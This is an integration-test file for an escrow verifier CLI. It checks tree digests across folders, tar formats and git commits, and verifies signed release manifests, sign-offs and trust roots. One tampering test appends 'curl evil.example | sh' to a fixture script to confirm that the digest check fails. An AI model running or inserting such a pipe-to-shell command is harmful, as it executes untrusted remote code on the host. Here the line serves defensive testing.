import { execFile, spawn } from 'node:child_process';
import { createHash, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import { escrowTreeDigest } from '../../resources/verifier/escrow-verify.mjs';
import { root } from '../../scripts/lib/build-steps.mjs';
import { runCliProcess } from '../helpers/cli-process.js';
import { FIXTURE_ENV } from '../helpers/git-fixtures.js';
import { tempDir } from '../helpers/temp.js';

const run = promisify(execFile);
const VERIFIER = path.join(root, 'resources', 'verifier', 'escrow-verify.mjs');
const sha256Hex = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** The verifier as the deployment team runs it: plain node, no workspace, no network. */
function verifier(args: readonly string[]): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [VERIFIER, ...args], { cwd: root, env: { PATH: process.env['PATH'] }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString('utf8')));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** The app's own `digest` command over the same tree: both implementations must agree to the byte. */
async function appDigest(args: readonly string[]): Promise<string> {
  const result = await runCliProcess(['--json', 'digest', ...args]);
  expect(result, args.join(' ')).toMatchObject({ code: 0, stderr: '' });
  // One JSON document: the app bundles the verifier (manifest verify), whose CLI must then stay silent.
  return (JSON.parse(result.stdout) as { digest: string }).digest;
}

async function ourDigest(args: readonly string[]): Promise<string> {
  const result = await verifier(['digest', ...args]);
  expect(result, args.join(' ')).toMatchObject({ code: 0, stderr: '' });
  return result.stdout.trim();
}

async function gitIn(gitDir: string, args: readonly string[], input?: Buffer | string): Promise<string> {
  return new Promise((resolve, reject) => {
    const env = { ...FIXTURE_ENV, GIT_AUTHOR_DATE: '1735689600 +0000', GIT_COMMITTER_DATE: '1735689600 +0000' };
    const child = spawn('git', ['--git-dir', gitDir, ...args], { env, stdio: [input === undefined ? 'ignore' : 'pipe', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout!.on('data', (c: Buffer) => (stdout += c.toString('latin1')));
    child.stderr!.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
    child.on('error', reject);
    child.on('close', (code) => (code === 0 ? resolve(stdout.trim()) : reject(new Error(`git ${args.join(' ')}: ${stderr}`))));
    // A git that fails early stops reading; its exit status and stderr tell the story, not EPIPE.
    child.stdin?.on('error', () => undefined);
    child.stdin?.end(input);
  });
}

/** A tree object from entries `[mode, type, oid, name bytes]`, written with `git mktree -z`. */
function mktree(gitDir: string, entries: Array<[string, string, string, Buffer | string]>): Promise<string> {
  const input = Buffer.concat(entries.map(([mode, type, oid, name]) => Buffer.concat([Buffer.from(`${mode} ${type} ${oid}\t`), Buffer.from(name), Buffer.from([0])])));
  return gitIn(gitDir, ['mktree', '-z'], input);
}

const blob = (gitDir: string, content: Buffer | string) => gitIn(gitDir, ['hash-object', '-w', '--stdin'], content);

// ---- a test-side manifest writer (the core writes the same format; see the unit test for the full one) ----

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    const entries = Object.entries(value).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
    return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${canonical(v)}`).join(',')}}`;
  }
  return JSON.stringify(value);
}

interface Person {
  name: string;
  privateKey: KeyObject;
  publicKey: string;
  keyid: string;
}

function person(name: string): Person {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const raw = Buffer.from(publicKey.export({ format: 'jwk' }).x!, 'base64url');
  return { name, privateKey, publicKey: raw.toString('base64'), keyid: sha256Hex(raw) };
}

interface Envelope {
  payloadType: string;
  payload: string;
  signatures: { keyid: string; sig: string }[];
}

function envelope(payloadType: string, body: unknown, signer: Person): Envelope {
  const bytes = Buffer.from(canonical(body), 'utf8');
  const pae = Buffer.concat([Buffer.from(`DSSEv1 ${Buffer.byteLength(payloadType)} ${payloadType} ${bytes.length} `), bytes]);
  return { payloadType, payload: bytes.toString('base64'), signatures: [{ keyid: signer.keyid, sig: sign(null, pae, signer.privateKey).toString('base64') }] };
}

const alice = person('alice');
const bob = person('bob');
const carol = person('carol');
const dave = person('dave');
const frank = person('frank');

interface Subject {
  name: string;
  digest: { sha256: string; gitCommit: string };
}

function signoffOf(signer: Person, role: string, subject: Subject): Envelope {
  const statement = {
    _type: 'https://in-toto.io/Statement/v1',
    subject: [subject],
    predicateType: 'https://escrow-workbench.org/signoff/v1',
    predicate: { role, decision: 'approve', comment: 'reviewed', signedAt: '2025-05-02T10:00:00.000Z', gate: {} },
  };
  return envelope('application/vnd.in-toto+json', statement, signer);
}

/** A signed manifest for `subject`, approved by a reviewer, a security engineer and an approver. */
function manifestFor(subject: Subject, options: { riskExpires?: string; signoffSubject?: Subject } = {}): Envelope {
  let lamport = 0;
  let last: { seq: number; hash: string } | null = null;
  const signed = (type: string, payload: Record<string, Json>) => {
    const event = { v: 1, id: `00000000-0000-4000-8000-00000000000${++lamport}`, type, actor: 'alice', keyid: alice.keyid, seq: (last?.seq ?? 0) + 1, prev: last?.hash ?? null, lamport, at: '2025-05-01T00:00:00.000Z', payload };
    const text = canonical(event);
    last = { seq: event.seq, hash: sha256Hex((event.prev ?? '') + text) };
    return { event, hash: last.hash, signature: sign(null, Buffer.from(text), alice.privateKey).toString('base64') };
  };
  const roster = [
    signed('roster.person-added', { name: 'alice', publicKey: alice.publicKey, roles: ['admin'] }),
    signed('roster.person-added', { name: 'bob', publicKey: bob.publicKey, roles: ['reviewer'] }),
    signed('roster.person-added', { name: 'carol', publicKey: carol.publicKey, roles: ['security'] }),
    signed('roster.person-added', { name: 'dave', publicKey: dave.publicKey, roles: ['approver'] }),
    signed('roster.person-added', { name: 'frank', publicKey: frank.publicKey, roles: ['security'] }),
  ];
  const policy = signed('policy.set', {
    component: 'billing',
    policy: { signoffs: { reviewer: 1, security: 1, approver: 1 }, coverage: { security: 80 }, maxOpenSeverity: 'low', requireRiskExpiry: true, separationOfDuties: true },
  });
  const signedSubject = options.signoffSubject ?? subject;
  return envelope(
    'application/vnd.escrow-workbench.manifest+json',
    {
      manifestVersion: 1,
      subject,
      component: 'billing',
      ref: subject.name.slice('billing@'.length),
      exportedAt: '2025-05-03T09:00:00.000Z',
      exportedBy: 'alice',
      policy,
      roster,
      signoffs: [signoffOf(bob, 'reviewer', subject), signoffOf(carol, 'security', subject), signoffOf(dave, 'approver', signedSubject)],
      findings: { open: [{ id: 'f-1', number: 1, title: 'Verbose errors', severity: 'info', status: 'open' }], counts: { info: { open: 1 } } },
      acceptedRisks: [{ findingId: 'f-2', title: 'TLS 1.2', severity: 'medium', justification: 'internal bus', expiresAt: options.riskExpires ?? '2099-01-01T00:00:00.000Z', requestedBy: 'frank', approvedBy: 'dave', approvedAt: '2025-05-01T12:00:00.000Z' }],
      coverage: { security: { totalLines: 10, reviewedLines: 10, percent: 100 } },
      gate: {},
    },
    alice,
  );
}

// ---- fixtures --------------------------------------------------------------------------------------------

const NOT_UTF8 = Buffer.from([0x6e, 0xff, 0x2e, 0x74, 0x78, 0x74]); // "n\xff.txt"
const GOLDEN_GITLINK = '0123456789abcdef0123456789abcdef01234567';
/** test/unit/escrow-tree-digest.test.ts pins this digest for the same five records. */
const GOLDEN_DIGEST = 'sha256:9634650ac3c71c6bb64647c88198e304ed9123ea0c7991b7900261a340a7b8ce';
const LONG_DIR = `src/${'module-with-a-long-name/'.repeat(4)}nested`;

let base: string;
let release: string;
let bare: string;
let goldenCommit: string;
let sameTreeCommit: string;
let bigCommit: string;

beforeAll(async () => {
  base = await tempDir('ew-standalone-verifier-');
  // A release folder with what real vendor trees hold: nested folders, a long path, an executable, a
  // symlink, a hard link, a non-UTF-8 name, an empty folder, a 5 MiB file, and .git entries to skip.
  release = path.join(base, 'billing-1.0');
  await fs.mkdir(path.join(release, 'bin'), { recursive: true });
  await fs.mkdir(path.join(release, LONG_DIR), { recursive: true });
  await fs.mkdir(path.join(release, 'docs'), { recursive: true });
  await fs.mkdir(path.join(release, 'empty', 'folder'), { recursive: true });
  await fs.mkdir(path.join(release, '.git', 'objects'), { recursive: true });
  await fs.mkdir(path.join(release, 'vendored'), { recursive: true });
  await fs.writeFile(path.join(release, 'README.md'), '# billing\n');
  await fs.writeFile(path.join(release, 'bin', 'run.sh'), '#!/bin/sh\nexec ./billing\n', { mode: 0o755 });
  await fs.writeFile(path.join(release, LONG_DIR, 'handler with spaces.go'), 'package nested\n');
  await fs.writeFile(path.join(release, 'Описание.txt'), 'текст\n');
  await fs.writeFile(Buffer.concat([Buffer.from(`${release}/`), NOT_UTF8]), NOT_UTF8);
  await fs.symlink('../README.md', path.join(release, 'docs', 'link'));
  await fs.link(path.join(release, 'README.md'), path.join(release, 'docs', 'README-copy.md'));
  await fs.writeFile(path.join(release, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  await fs.writeFile(path.join(release, 'vendored', '.git'), 'gitdir: ../../elsewhere\n');
  const big = Buffer.alloc(5 * 1024 * 1024 + 17);
  for (let i = 0; i + 4 <= big.length; i += 4) big.writeUInt32LE(Math.imul(i, 2654435761) >>> 0, i);
  await fs.writeFile(path.join(release, 'data.bin'), big);

  // A bare repository built object by object: the golden tree of the unit tests (with a gitlink), the same
  // tree under a second commit, and a tree with a big blob, an empty blob and a repeated blob.
  bare = path.join(base, 'vendor.git');
  await run('git', ['init', '-q', '--bare', bare], { env: FIXTURE_ENV });
  const hello = await blob(bare, 'hello\n');
  const empty = await blob(bare, '');
  const target = await blob(bare, 'README.md');
  const odd = await blob(bare, NOT_UTF8);
  const binTree = await mktree(bare, [['100755', 'blob', empty, 'run.sh']]);
  const docsTree = await mktree(bare, [['120000', 'blob', target, 'link']]);
  const vendorTree = await mktree(bare, [['160000', 'commit', GOLDEN_GITLINK, 'lib']]);
  const golden = await mktree(bare, [
    ['100644', 'blob', hello, 'README.md'],
    ['040000', 'tree', binTree, 'bin'],
    ['040000', 'tree', docsTree, 'docs'],
    ['100644', 'blob', odd, NOT_UTF8],
    ['040000', 'tree', vendorTree, 'vendor'],
  ]);
  goldenCommit = await gitIn(bare, ['commit-tree', golden, '-m', 'release 1.0']);
  sameTreeCommit = await gitIn(bare, ['commit-tree', golden, '-m', 'the same tree, another commit']);
  await gitIn(bare, ['update-ref', 'refs/tags/v1.0', goldenCommit]);
  const bigBlob = await blob(bare, big);
  const bigTree = await mktree(bare, [
    ['100644', 'blob', bigBlob, 'data.bin'],
    ['100644', 'blob', empty, 'empty.txt'],
    ['100644', 'blob', hello, 'a.txt'],
    ['100755', 'blob', hello, 'b.sh'],
    ['040000', 'tree', golden, 'golden'],
  ]);
  bigCommit = await gitIn(bare, ['commit-tree', bigTree, '-p', goldenCommit, '-m', 'big']);
});

describe('escrow-tree-v1 digests agree with the app', () => {
  it('a folder: skips .git entries and empty folders, records the symlink by target and the mode bit', async () => {
    const ours = await ourDigest(['--dir', release]);
    expect(ours).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(ours).toBe(await appDigest(['--dir', release]));
    expect(await escrowTreeDigest({ dir: release })).toBe(ours);
    const json = await verifier(['digest', '--dir', release, '--json']);
    expect(JSON.parse(json.stdout)).toEqual({ digest: ours, files: 8, bytes: expect.any(Number) as number });
  });

  it('tar archives written by GNU tar in gnu, pax and ustar formats, plain and gzipped, equal the folder', async () => {
    const folder = await ourDigest(['--dir', release]);
    const archives: Array<[string, string[], string[]]> = [
      ['gnu.tar', ['--format=gnu', '-cf'], []],
      ['pax.tar', ['--format=pax', '-cf'], []],
      ['ustar.tar', ['--format=ustar', '-cf'], []],
      ['release.tgz', ['-czf'], []],
      ['release.tar.gz', ['--format=pax', '-czf'], []],
    ];
    for (const [name, flags] of archives) {
      const file = path.join(base, name);
      await run('tar', [...flags, file, '-C', release, '.'], { env: { ...FIXTURE_ENV, LC_ALL: 'C' } });
      expect(await ourDigest(['--archive', file]), name).toBe(folder);
      expect(await appDigest(['--archive', file]), name).toBe(folder);
    }
    // Packed with its top folder, as vendors ship tarballs: --strip-components drops it.
    const prefixed = path.join(base, 'billing-1.0.tar.gz');
    await run('tar', ['-czf', prefixed, '-C', base, 'billing-1.0'], { env: FIXTURE_ENV });
    expect(await ourDigest(['--archive', prefixed, '--strip-components', '1'])).toBe(folder);
    expect(await appDigest(['--archive', prefixed, '--strip-components', '1'])).toBe(folder);
    expect(await ourDigest(['--archive', prefixed])).not.toBe(folder);
  });

  it('a git commit: the golden vector (gitlink, symlink, executable, non-UTF-8 path), full or abbreviated id', async () => {
    expect(await ourDigest(['--repo', bare, '--commit', goldenCommit])).toBe(GOLDEN_DIGEST);
    expect(await ourDigest(['--repo', bare, '--commit', goldenCommit.slice(0, 10).toUpperCase()])).toBe(GOLDEN_DIGEST);
    expect(await appDigest(['--repo', bare, '--commit', goldenCommit])).toBe(GOLDEN_DIGEST);
  });

  it('a git commit with a 5 MiB blob and repeated blobs streams through cat-file and matches the app', async () => {
    const ours = await ourDigest(['--repo', bare, '--commit', bigCommit]);
    expect(ours).toBe(await appDigest(['--repo', bare, '--commit', bigCommit]));
    const json = JSON.parse((await verifier(['digest', '--repo', bare, '--commit', bigCommit, '--json'])).stdout) as Record<string, unknown>;
    expect(json).toEqual({ digest: ours, files: 9, bytes: 5 * 1024 * 1024 + 17 + 0 + 6 + 6 + 6 + 0 + 9 + 6, commit: bigCommit });
  });

  it('refuses damaged archives and unknown commits with exit 1 and a clear message', async () => {
    const good = await fs.readFile(path.join(base, 'gnu.tar'));
    const truncated = path.join(base, 'truncated.tar');
    await fs.writeFile(truncated, good.subarray(0, 1536));
    const corrupt = path.join(base, 'corrupt.tar');
    const flipped = Buffer.from(good);
    flipped[0] = flipped[0]! ^ 0x01;
    await fs.writeFile(corrupt, flipped);
    const cases: Array<[string[], RegExp]> = [
      [['--archive', truncated], /truncated/],
      [['--archive', corrupt], /is not a tar archive/],
      [['--archive', path.join(base, 'nothing.tar')], /There is nothing at/],
      [['--repo', bare, '--commit', 'f'.repeat(40)], new RegExp(`has no commit ${'f'.repeat(40)}`)],
      [['--repo', release, '--commit', goldenCommit], /is not a git repository/],
      [['--repo', bare, '--commit', 'HEAD'], /is not a commit id/],
    ];
    for (const [args, message] of cases) {
      const result = await verifier(['digest', ...args]);
      expect(result.code, args.join(' ')).toBe(1);
      expect(result.stdout, args.join(' ')).toBe('');
      expect(result.stderr, args.join(' ')).toMatch(message);
    }
  });
});

describe('escrow-verify as a module', () => {
  it('does not run its command line when imported, not even from inside a bundle', async () => {
    const { build } = await import('esbuild');
    const bundle = path.join(base, 'bundled-app.mjs');
    await build({ stdin: { contents: "import { canonicalJson } from './resources/verifier/escrow-verify.mjs'; console.log(canonicalJson({ b: 1, a: [true] }));", resolveDir: root, loader: 'js' }, bundle: true, platform: 'node', format: 'esm', outfile: bundle, logLevel: 'silent' });
    const { stdout, stderr } = await run(process.execPath, [bundle, 'digest', '--dir', release]);
    expect({ stdout, stderr }).toEqual({ stdout: '{"a":[true],"b":1}\n', stderr: '' });
  });
});

describe('escrow-verify MANIFEST', () => {
  let folderSubject: Subject;
  let goldenSubject: Subject;
  let good: string;

  const write = async (name: string, content: unknown) => {
    const file = path.join(base, name);
    await fs.writeFile(file, typeof content === 'string' ? content : JSON.stringify(content, null, 2));
    return file;
  };

  beforeAll(async () => {
    folderSubject = { name: 'billing@v1.0', digest: { sha256: (await ourDigest(['--dir', release])).slice(7), gitCommit: goldenCommit } };
    goldenSubject = { name: 'billing@v1.0', digest: { sha256: GOLDEN_DIGEST.slice(7), gitCommit: goldenCommit } };
    good = await write('good.manifest.json', manifestFor(folderSubject));
  });

  it('verifies a folder, the same tree as a tarball, and the pinned trust root: exit 0, one line per check', async () => {
    const result = await verifier([good, '--dir', release, '--trust-root', alice.keyid]);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines.map((line) => /^(?:ok {3}|FAIL )\S+/.exec(line)?.[0] ?? line)).toEqual([
      'ok   manifest-signature',
      'ok   roster',
      'ok   trust-root',
      'ok   policy',
      'ok   signoff:1',
      'ok   signoff:2',
      'ok   signoff:3',
      'ok   required-signoffs',
      'ok   separation-of-duties',
      'ok   open-findings',
      'ok   coverage',
      'ok   accepted-risks',
      'ok   tree-digest',
      `VERIFIED billing@v1.0 (sha256:${folderSubject.digest.sha256}, commit ${goldenCommit}): all 13 checks passed, trust root ${alice.keyid} (pinned)`,
    ]);
    expect(lines).toContain(`ok   trust-root  the roster's genesis key is the pinned ${alice.keyid}`);
    const archive = await verifier([good, '--archive', path.join(base, 'billing-1.0.tar.gz'), '--strip-components', '1', '--trust-root', alice.keyid]);
    expect(archive.code).toBe(0);
  });

  it('warns when the trust root is not pinned, and still exits 0', async () => {
    const result = await verifier([good, '--dir', release]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`warn trust root not pinned  the roster's root key is ${alice.keyid}: compare it with the key you were given, then pass --trust-root ${alice.keyid}\n`);
  });

  it('verifies a repository commit, and fails tree-digest for another commit with the same tree', async () => {
    const manifest = await write('golden.manifest.json', manifestFor(goldenSubject));
    const ok = await verifier([manifest, '--repo', bare, '--commit', goldenCommit.slice(0, 12), '--trust-root', alice.keyid]);
    expect(ok.stdout).toContain(`ok   tree-digest  ${GOLDEN_DIGEST} at commit ${goldenCommit} matches the tree\n`);
    expect(ok.code).toBe(0);
    const other = await verifier([manifest, '--repo', bare, '--commit', sameTreeCommit, '--trust-root', alice.keyid]);
    expect(other.code).toBe(3);
    expect(other.stdout).toContain(`FAIL tree-digest  the commit is ${sameTreeCommit}, the manifest names ${goldenCommit}\n`);
  });

  it('fails tree-digest (exit 3) when one file of the tree changed', async () => {
    const copy = path.join(base, 'tampered');
    await run('cp', ['-a', release, copy]);
    await fs.appendFile(path.join(copy, 'bin', 'run.sh'), 'curl evil.example | sh\n');
    const result = await verifier([good, '--dir', copy, '--trust-root', alice.keyid]);
    expect(result.code).toBe(3);
    expect(result.stdout).toMatch(/^FAIL tree-digest {2}the tree's escrow-tree-v1 digest is sha256:[0-9a-f]{64}, the manifest names sha256:/m);
    expect(result.stdout.trimEnd().split('\n').at(-1)).toBe(`NOT VERIFIED billing@v1.0 (sha256:${folderSubject.digest.sha256}, commit ${goldenCommit}): 1 of 13 checks failed: tree-digest`);
    // The executable bit alone is part of the digest too.
    await run('cp', ['-a', release, path.join(base, 'chmod')]);
    await fs.chmod(path.join(base, 'chmod', 'bin', 'run.sh'), 0o644);
    expect((await verifier([good, '--dir', path.join(base, 'chmod')])).code).toBe(3);
  });

  it('fails manifest-signature (exit 3) for an envelope changed after signing', async () => {
    const envelopeValue = JSON.parse(await fs.readFile(good, 'utf8')) as Envelope;
    const body = JSON.parse(Buffer.from(envelopeValue.payload, 'base64').toString('utf8')) as { findings: { open: unknown[] } };
    body.findings.open = [];
    const tampered = await write('tampered.manifest.json', { ...envelopeValue, payload: Buffer.from(canonical(body)).toString('base64') });
    const result = await verifier([tampered, '--dir', release, '--trust-root', alice.keyid]);
    expect(result.code).toBe(3);
    expect(result.stdout).toContain(`FAIL manifest-signature  the envelope signature does not verify with "alice"'s key: the manifest was changed after it was signed\n`);
  });

  it('fails the sign-off pasted in from another release (exit 3)', async () => {
    const otherRelease: Subject = { name: 'billing@v0.9', digest: { sha256: sha256Hex('v0.9'), gitCommit: sameTreeCommit } };
    const manifest = await write('pasted.manifest.json', manifestFor(folderSubject, { signoffSubject: otherRelease }));
    const result = await verifier([manifest, '--dir', release]);
    expect(result.code).toBe(3);
    expect(result.stdout).toContain('FAIL signoff:3  it signs "billing@v0.9", not "billing@v1.0"');
    expect(result.stdout).toContain('FAIL required-signoffs  approver needs 1 approval(s) from distinct people, has 0\n');
  });

  it('fails trust-root (exit 3) when the roster stems from another key', async () => {
    const result = await verifier([good, '--dir', release, '--trust-root', bob.keyid]);
    expect(result.code).toBe(3);
    expect(result.stdout).toContain(`FAIL trust-root  the roster's genesis key is ${alice.keyid}, not the pinned ${bob.keyid}\n`);
  });

  it('judges risk expiry at --at', async () => {
    const manifest = await write('risk.manifest.json', manifestFor(folderSubject, { riskExpires: '2026-03-01T00:00:00.000Z' }));
    expect((await verifier([manifest, '--dir', release, '--at', '2026-02-28'])).code).toBe(0);
    const late = await verifier([manifest, '--dir', release, '--at', '2026-03-01T00:00:00Z']);
    expect(late.code).toBe(3);
    expect(late.stdout).toContain('FAIL accepted-risks  the risk accepted for finding "f-2" expired at 2026-03-01T00:00:00.000Z (checked at 2026-03-01T00:00:00.000Z)\n');
  });

  it('prints exactly one JSON document with --json', async () => {
    const result = await verifier(['--json', good, '--dir', release]);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    const report = JSON.parse(result.stdout) as { ok: boolean; subject: Subject; trustRoot: string; checks: Array<{ name: string; ok: boolean; detail: string }>; warnings: string[] };
    expect(report.ok).toBe(true);
    expect(report.subject).toEqual(folderSubject);
    expect(report.trustRoot).toBe(alice.keyid);
    expect(report.warnings).toEqual(['trust root not pinned']);
    expect(report.checks).toHaveLength(12);
    expect(report.checks.find((c) => c.name === 'signoff:3')).toEqual({ name: 'signoff:3', ok: true, detail: '"dave" approves as approver' });
    const failed = await verifier([good, '--dir', path.join(base, 'tampered'), '--json']);
    expect(failed.code).toBe(3);
    expect((JSON.parse(failed.stdout) as { ok: boolean; checks: Array<{ name: string; ok: boolean }> }).checks.filter((c) => !c.ok).map((c) => c.name)).toEqual(['tree-digest']);
  });

  it('exits 1 on usage and input errors, naming the problem', async () => {
    const malformed = await write('malformed.json', '{"payloadType": "application/vnd.escrow-workbench.manifest+json", "payload": ');
    const notEnvelope = await write('not-envelope.json', '[1, 2, 3]');
    const cases: Array<[string[], string]> = [
      [[], 'Give a manifest file'],
      [[good], 'Give exactly one tree'],
      [[good, '--dir', release, '--archive', path.join(base, 'gnu.tar')], 'Give exactly one tree'],
      [[good, '--repo', bare], '--repo and --commit go together'],
      [[good, '--dir'], '--dir needs a value'],
      [[good, '--dir', release, '--trust-root', 'abc'], '--trust-root takes a keyid'],
      [[good, '--dir', release, '--at', 'yesterday'], '--at takes an ISO-8601 date'],
      [[good, '--dir', release, '--dri', release], 'Unknown option "--dri"'],
      [[good, 'extra', '--dir', release], 'Unexpected argument "extra"'],
      [[malformed, '--dir', release], `The manifest ${malformed} is not valid JSON`],
      [[notEnvelope, '--dir', release], 'The manifest is not a JSON object'],
      [[path.join(base, 'missing.json'), '--dir', release], `There is no manifest file at ${path.join(base, 'missing.json')}`],
      [[good, '--dir', path.join(base, 'missing-dir')], `There is nothing at ${path.join(base, 'missing-dir')}`],
    ];
    for (const [args, message] of cases) {
      const result = await verifier(args);
      expect(result.code, args.join(' ')).toBe(1);
      expect(result.stdout, args.join(' ')).toBe('');
      expect(result.stderr, args.join(' ')).toContain(message);
    }
    const json = await verifier(['--json', malformed, '--dir', release]);
    expect(json.code).toBe(1);
    expect(JSON.parse(json.stdout)).toEqual({ error: { code: 'INVALID_INPUT', message: expect.stringContaining('is not valid JSON') as string } });
  });
});
